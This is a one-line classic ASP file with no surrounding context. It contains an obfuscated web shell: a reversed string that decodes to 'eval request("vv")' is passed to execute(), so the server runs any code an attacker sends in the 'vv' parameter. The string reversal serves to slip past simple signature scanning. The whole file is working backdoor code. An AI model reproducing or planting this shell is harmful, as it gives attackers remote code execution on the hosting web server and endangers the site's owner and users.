<%
execute(strreverse(")""vv""(tseuqer lave"))
%>
